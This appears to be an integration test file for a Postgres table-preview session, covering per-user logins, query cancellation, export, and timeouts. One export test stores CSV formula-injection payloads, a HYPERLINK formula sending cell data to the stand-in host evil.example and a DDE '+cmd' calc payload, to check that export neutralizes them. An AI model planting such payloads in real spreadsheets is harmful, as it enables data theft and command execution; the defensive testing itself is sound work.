import * as assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { Cancelled, QueryLane } from '../../src/postgres/preview/queryLane';
import { PreviewSession, ShapeChanged } from '../../src/postgres/preview/previewSession';
import { PoolRegistry } from '../../src/postgres/pools';
import { testServer } from './setup';
import { makeWorld, unique, using, type World } from './workspaceWorld';
import { cameTrue } from '../harness/pollUntil';

/** Queries of other sessions that are running now and mention `marker`. */
async function runningWith(marker: string): Promise<number> {
  const admin = await testServer().connect();
  try {
    const { rows } = await admin.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE state = 'active' AND pid <> pg_backend_pid() AND query LIKE '%' || $1 || '%'`, [marker]);
    return rows[0].n as number;
  } finally {
    await admin.end();
  }
}

describe('preview session: a member\'s own login, cancel on close and on newer requests, statement timeout', function () {
  this.timeout(60_000);
  let w: World;
  const pools = new PoolRegistry();
  after(() => pools.dispose());
  // A view whose rows each take 50 ms: a sorted page or a whole export never comes back on its own
  // within the test. pg_sleep's argument depends on the row, or the server would sleep once and
  // replay the function's result for every other row.
  const slowView = 'slow "view" é';

  before(async () => {
    w = await makeWorld({ workspace: unique('Preview WS'), other: unique('Other WS') });
    await using(w.editor, w.workspace.dbName, async (c) => {
      await c.query('CREATE TABLE visits (id int PRIMARY KEY, site text)');
      await c.query(`INSERT INTO visits SELECT g, 'site ' || (g % 5) FROM generate_series(1, 3000) g`);
      await c.query(`CREATE VIEW "slow ""view"" é" AS SELECT g, (SELECT g FROM pg_sleep(0.05 + 0 * g)) AS napped FROM generate_series(1, 100000) g`);
    });
  });

  it('a viewer previews through their own login', async () => {
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'visits');
    try {
      const page = await session.page({ pageSize: 100, sort: { column: 'site', direction: 'desc' } });
      assert.equal(page.rows.length, 100);
      assert.equal(page.rows[0]![1], 'site 4');
      assert.equal(await session.count({ filters: [{ column: 'site', op: 'eq', value: 'site 1' }] }), 600);
    } finally {
      await session.close();
    }
  });

  it('exports formulas as they are, or, with the option, text cells that start one behind a leading quote (never numbers or dates)', async () => {
    await using(w.editor, w.workspace.dbName, (c) =>
      c.query(`CREATE DOMAIN memo AS varchar(100);
        CREATE TABLE formulas (id int PRIMARY KEY, note text, memo memo, amount numeric, day date);
        INSERT INTO formulas VALUES (1, '=HYPERLINK("http://evil.example/?d="&A2, "x")', '+cmd|'' /C calc''!A0', -5, '2024-01-02'),
          (2, '-2+3', '@SUM(A1)', 7, '2024-02-03'), (3, E'\\tindent', E'\\rreturn', 1, NULL), (4, 'plain', 'a=b', NULL, NULL)`),
    );
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'formulas');
    const csv = async (neutralize: boolean): Promise<string> => {
      let out = '';
      await session.exportCsv({ sort: { column: 'id', direction: 'asc' } }, new Writable({ write: (chunk: Buffer, _e, cb) => ((out += chunk.toString()), cb()) }), undefined, neutralize);
      return out;
    };
    try {
      assert.equal(
        await csv(false),
        'id,note,memo,amount,day\n1,"=HYPERLINK(""http://evil.example/?d=""&A2, ""x"")",+cmd|\' /C calc\'!A0,-5,2024-01-02\n2,-2+3,@SUM(A1),7,2024-02-03\n3,\tindent,"\rreturn",1,\n4,plain,a=b,,\n',
      );
      assert.equal(
        await csv(true),
        'id,note,memo,amount,day\n1,"\'=HYPERLINK(""http://evil.example/?d=""&A2, ""x"")",\'+cmd|\' /C calc\'!A0,-5,2024-01-02\n2,\'-2+3,\'@SUM(A1),7,2024-02-03\n3,\'\tindent,"\'\rreturn",1,\n4,plain,a=b,,\n',
      );
    } finally {
      await session.close();
    }
  });

  it('reads the table\'s columns once, and again when a page says the table changed under it', async () => {
    await using(w.editor, w.workspace.dbName, (c) => c.query('CREATE TABLE reshaped (id int PRIMARY KEY, old_note text, kept int); INSERT INTO reshaped VALUES (1, \'a\', 10), (2, \'b\', 20)'));
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'reshaped');
    try {
      assert.deepEqual((await session.shape()).columns.map((c) => c.name), ['id', 'old_note', 'kept']);
      assert.equal((await session.page({ pageSize: 10 })).rows.length, 2);
      await using(w.editor, w.workspace.dbName, (c) => c.query('ALTER TABLE reshaped DROP COLUMN old_note, ADD COLUMN new_note text DEFAULT \'n\''));
      await assert.rejects(session.page({ pageSize: 10 }), (err: unknown) => err instanceof ShapeChanged && /old_note/.test(err.message));
      assert.deepEqual((await session.shape()).columns.map((c) => c.name), ['id', 'kept', 'new_note']);
      assert.deepEqual((await session.page({ pageSize: 10 })).rows, [['1', '10', 'n'], ['2', '20', 'n']]);
    } finally {
      await session.close();
    }
  });

  it('a view whose own code fails as a changed table would, on every read, is an error, not a shape read again and again', async () => {
    await using(w.editor, w.workspace.dbName, (c) =>
      c.query(`CREATE FUNCTION public.always_fails() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION USING ERRCODE = '42703', MESSAGE = 'column "gone" does not exist'; END $$;
        CREATE VIEW always_fails AS SELECT g AS id, public.always_fails() AS v FROM generate_series(1, 3) g`),
    );
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'always_fails');
    try {
      await assert.rejects(session.page({ pageSize: 10 }), (err: unknown) => !(err instanceof ShapeChanged) && /column "gone" does not exist/.test(String(err)));
    } finally {
      await session.close();
    }
  });

  it('closing the panel cancels its running query: nothing left in pg_stat_activity', async () => {
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', slowView);
    const page = session.page({ pageSize: 100, sort: { column: 'g', direction: 'desc' } });
    const outcome = page.then(() => undefined, (err: unknown) => err);
    assert.ok(await cameTrue(async () => (await runningWith('pg_sleep')) === 1 || (await runningWith('slow')) === 1), 'the page query never started');
    await session.close();
    const err = await outcome;
    assert.ok(err instanceof Cancelled && err.reason === 'closed', String(err));
    assert.ok(await cameTrue(async () => (await runningWith('slow')) === 0), 'a query still runs after the panel closed');
  });

  it('a newer page request cancels the older one; the newer one answers', async () => {
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', slowView);
    try {
      const older = session.page({ pageSize: 100, sort: { column: 'g', direction: 'desc' } });
      assert.ok(await cameTrue(async () => (await runningWith('slow')) === 1));
      const newer = session.page({ pageSize: 2 });
      await assert.rejects(older, (err) => err instanceof Cancelled && err.reason === 'superseded');
      assert.equal((await newer).rows.length, 2);
    } finally {
      await session.close();
    }
  });

  it('Cancel stops a running export on the server and says it was the user', async () => {
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', slowView);
    try {
      const out = new Writable({ write: (_chunk: Buffer, _e, cb) => cb() });
      const exporting = session.exportCsv({ filters: [] }, out).then(() => undefined, (err: unknown) => err);
      assert.ok(await cameTrue(async () => (await runningWith('COPY')) >= 1, { timeout: 10_000 }), 'the export never started');
      await session.cancelExport();
      const err = await exporting;
      assert.ok(err instanceof Cancelled && err.reason === 'user', String(err));
      assert.ok(await cameTrue(async () => (await runningWith('COPY')) === 0, { timeout: 10_000 }), 'COPY still runs after Cancel');
      // The session still pages after a cancelled export.
      assert.equal((await session.page({ pageSize: 3 })).rows.length, 3);
    } finally {
      await session.close();
    }
  });

  it('Cancel pressed before the export reached its connection still stops it', async () => {
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', slowView);
    try {
      const out = new Writable({ write: (_chunk: Buffer, _e, cb) => cb() });
      const exporting = session.exportCsv({ filters: [] }, out).then(() => undefined, (err: unknown) => err);
      await session.cancelExport();
      const err = await exporting;
      assert.ok(err instanceof Cancelled && err.reason === 'user', String(err));
      assert.equal(await runningWith('COPY'), 0);
      // The next export is not cancelled by the earlier Cancel.
      const again = new Writable({ write: (_chunk: Buffer, _e, cb) => cb() });
      assert.equal((await session.exportCsv({ filters: [{ column: 'g', op: 'lt', value: '3' }] }, again)).rows, 2);
    } finally {
      await session.close();
    }
  });

  it('work that ends on its own while its cancel is on the way still answers Cancelled', async () => {
    const lane = new QueryLane(pools.source({ ...w.viewer, database: w.workspace.dbName }), 'page', undefined, 'read-only');
    try {
      let finish: () => void = () => undefined;
      let began: () => void = () => undefined;
      const beginning = new Promise<void>((r) => (began = r));
      const running = lane.run(async (client, stopped) => {
        await client.query('SELECT 1');
        began();
        await new Promise<void>((r) => (finish = r));
        return stopped();
      });
      await beginning;
      const cancelling = lane.cancel(new Cancelled('user'));
      finish();
      await cancelling;
      await assert.rejects(running, (err) => err instanceof Cancelled && err.reason === 'user');
      assert.equal((await lane.run((c) => c.query('SELECT 2 AS two'))).rows[0].two, 2);
    } finally {
      await lane.close();
    }
  });

  it('a file that cannot be written stops the export on the server too, and the panel goes on', async () => {
    await using(w.editor, w.workspace.dbName, (c) => c.query(`CREATE TABLE IF NOT EXISTS wide AS SELECT g AS id, repeat('x', 200) AS pad FROM generate_series(1, 200000) g`));
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'wide');
    try {
      let writes = 0;
      const full = new Writable({ write: (_chunk: Buffer, _e, cb) => (++writes > 2 ? cb(new Error('ENOSPC: no space left on device')) : cb()) });
      await assert.rejects(session.exportCsv({ filters: [] }, full), /ENOSPC/);
      assert.ok(await cameTrue(async () => (await runningWith('COPY')) === 0), 'COPY still runs after the file failed');
      assert.equal((await session.page({ pageSize: 3 })).rows.length, 3);
      const again = new Writable({ write: (_chunk: Buffer, _e, cb) => cb() });
      assert.equal((await session.exportCsv({ filters: [{ column: 'id', op: 'lt', value: '11' }] }, again)).rows, 10);
    } finally {
      await session.close();
    }
  });

  it('a connection dropped by the server mid-preview: a clear error at most once, then pages again', async () => {
    const session = new PreviewSession({ ...w.viewer, database: w.workspace.dbName }, 'public', 'visits');
    try {
      assert.equal((await session.page({ pageSize: 5 })).rows.length, 5);
      const admin = await testServer().connect();
      await admin.query(`SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = $1 AND datname = $2`, [w.viewer.user, w.workspace.dbName]);
      await admin.end();
      const first = await session.page({ pageSize: 5 }).then(
        (page) => page.rows.length,
        (err: unknown) => (assert.match(String(err), /terminat|Connection/i), 0),
      );
      const second = await session.page({ pageSize: 5 });
      assert.ok(first === 5 || second.rows.length === 5);
      assert.equal(second.rows.length, 5);
    } finally {
      await session.close();
    }
  });

  it('a page that runs too long is stopped by the statement timeout', async () => {
    const lane = new QueryLane(pools.source({ ...w.viewer, database: w.workspace.dbName }), 'page', 200, 'read-only');
    try {
      await assert.rejects(lane.run((c) => c.query('SELECT pg_sleep(5)')), /statement timeout/);
      assert.equal((await lane.run((c) => c.query('SELECT 1 AS one'))).rows[0].one, 1);
    } finally {
      await lane.close();
    }
  });
});
